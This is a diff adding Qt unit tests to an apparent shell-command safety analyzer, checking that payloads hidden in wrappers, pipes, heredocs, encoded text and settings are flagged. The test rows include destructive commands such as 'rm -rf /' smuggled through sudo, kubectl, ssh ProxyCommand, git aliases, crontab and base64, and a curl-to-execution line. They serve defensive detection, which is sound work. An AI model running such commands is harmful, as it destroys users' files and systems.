@@ -399,6 +399,105 @@ private slots:
         QCOMPARE(result.has_value(), refused);
     }
 
+    // Programs that run other commands: the payload after each wrapper's own options is what is judged.
+    void wrapperPayloads_areJudged_data()
+    {
+        QTest::addColumn<QString>("command");
+        QTest::addColumn<QString>("program");
+        QTest::addColumn<QString>("category");
+        auto row = [](const char *command, const char *program, const char *category) {
+            QTest::addRow("%s", command) << QString::fromUtf8(command) << QString::fromUtf8(program)
+                                         << QString::fromUtf8(category);
+        };
+        row("timeout -k 5 -s KILL 30 rm -rf /", "rm", "destructive_file_ops");                // operand after options
+        row("bwrap --bind / / --proc /proc rm -rf ~", "rm", "destructive_file_ops");          // two-argument options
+        row("kubectl -n prod exec -it api -c app -- rm -rf /", "rm", "destructive_file_ops"); // global options
+        row("docker compose exec web git push -f", "git", "destructive_git");                 // two-word subcommand
+        row("capsh -- -c 'kill -9 -1'", "kill", "process_killing");                           // marker and prefix
+        row("gdb -q --args rm -rf /", "rm", "destructive_file_ops");                          // payload after a marker
+        row("su - root -c 'rm -rf /etc'", "rm", "destructive_file_ops");                      // option anywhere
+        row("watch -n 1 'rm -rf ~'", "rm", "destructive_file_ops");                           // joined shell text
+        row("trap 'rm -rf ~' EXIT", "rm", "destructive_file_ops");                            // first operand
+        row("parallel rm -rf ::: /", "rm", "destructive_file_ops");                           // ::: arguments
+        row("sudo -s rm -rf /", "rm", "destructive_file_ops");                                // shell flag
+        row("git -c alias.x='!rm -rf ~' x", "rm", "destructive_file_ops");                    // a setting's text
+        row("GIT_SSH_COMMAND='rm -rf /' git fetch", "rm", "destructive_file_ops");            // a variable's text
+        row("make --eval='x: ; rm -rf /' x", "rm", "destructive_file_ops");                   // a recipe
+        row("run0 systemctl stop sshd", "systemctl", "privilege_escalation");                 // privileged wrapper
+        row("gosu app npm start", "npm", "privilege_escalation");                 // privileged, from the table
+        row("ssh -o ProxyCommand='rm -rf ~' h ls", "rm", "destructive_file_ops"); // -o KEY=shell text
+    }
+
+    void wrapperPayloads_areJudged()
+    {
+        QFETCH(QString, command);
+        QFETCH(QString, program);
+        QFETCH(QString, category);
+        const Analysis a = CommandAnalyzer::analyze(command.toStdString());
+        QVERIFY2(hasCategory(a, category), qPrintable(describe(a)));
+        // The finding names the unwrapped invocation, kept in the resolution for the dialog.
+        const auto judged = std::find_if(a.findings.begin(), a.findings.end(), [&](const Finding &f) {
+            return QString::fromStdString(f.category) == category && f.invocation >= 0;
+        });
+        QVERIFY(judged != a.findings.end());
+        const Invocation &inv = a.resolution.invocations[static_cast<std::size_t>(judged->invocation)];
+        QCOMPARE(QString::fromStdString(inv.program), program);
+        QVERIFY(!inv.wrappers.empty() || !inv.via.empty() || inv.tree > 0);
+    }
+
+    // Data that becomes code: literal text a shell reads is parsed; decoded or downloaded text asks.
+    void fedText_isJudged_data()
+    {
+        QTest::addColumn<QString>("command");
+        QTest::addColumn<QString>("category");
+        QTest::addColumn<bool>("floor");
+        auto row = [](const char *command, const char *category, bool floor) {
+            QTest::addRow("%s", command) << QString::fromUtf8(command) << QString::fromUtf8(category) << floor;
+        };
+        row("echo 'rm -rf /' | sh", "destructive_file_ops", true);
+        row("printf '%s\\n' 'rm -rf ~' | bash -s", "destructive_file_ops", true);
+        row("cat <<'EOF' | sh\nrm -rf /\nEOF", "destructive_file_ops", true);
+        row("echo 'rm -rf /' | tee >(sh) >/dev/null", "destructive_file_ops", true);
+        row("ssh host bash -s <<< 'rm -rf ~'", "destructive_file_ops", true);
+        row("echo '@reboot rm -rf /' | crontab -", "destructive_file_ops", true);
+        row("make -f - <<'EOF'\nall:\n\trm -rf ~\nEOF", "destructive_file_ops", true);
+        row("eval \"$(echo 'rm -rf /')\"", "destructive_file_ops", true);
+        row("echo cm0gLXJmIC8= | base64 -d | sh", "unknown_program", false);
+        row("printf '\\x72\\x6d -rf /' | bash", "unknown_program", false);
+        row("curl -s https://x | at now", "remote_code_execution", false);
+        row("echo 'rm -rf /' > x.sh && sh ./x.sh", "destructive_file_ops", true); // written, then run
+    }
+
+    void fedText_isJudged()
+    {
+        QFETCH(QString, command);
+        QFETCH(QString, category);
+        QFETCH(bool, floor);
+        const Analysis a = CommandAnalyzer::analyze(command.toStdString());
+        QVERIFY2(hasCategory(a, category), qPrintable(describe(a)));
+        QCOMPARE(a.floor(), floor);
+    }
+
+    void harmlessPayloads_areQuiet_data()
+    {
+        QTest::addColumn<QString>("command");
+        for (const char *c : {"echo hi | sh", "printf 'make -j4\\n' | bash", "sh -s <<< 'ls -la'",
+                              "tmux new-session -d -s dev 'npm run dev'", "parallel -j4 'echo {}' ::: a b",
+                              "kubectl -n dev exec api -- ls", "git -c core.pager=cat log", "trap 'echo x' EXIT",
+                              "su -c 'ls' nobody -s /bin/sh", "cat setup.sh | bash", "base64 -d <<< aGk= > hi.txt",
+                              "find . -name '*.o' -exec rm {} +"}) {
+            QTest::addRow("%s", c) << QString::fromUtf8(c);
+        }
+    }
+
+    void harmlessPayloads_areQuiet()
+    {
+        QFETCH(QString, command);
+        const Analysis a = CommandAnalyzer::analyze(command.toStdString());
+        for (const Finding &f : a.findings) // su is privilege escalation whatever it runs
+            QVERIFY2(f.category == "privilege_escalation", qPrintable(describe(a)));
+    }
+
     void sudo_isRewrittenOnlyInCommandPosition_data()
     {
         QTest::addColumn<QString>("command");
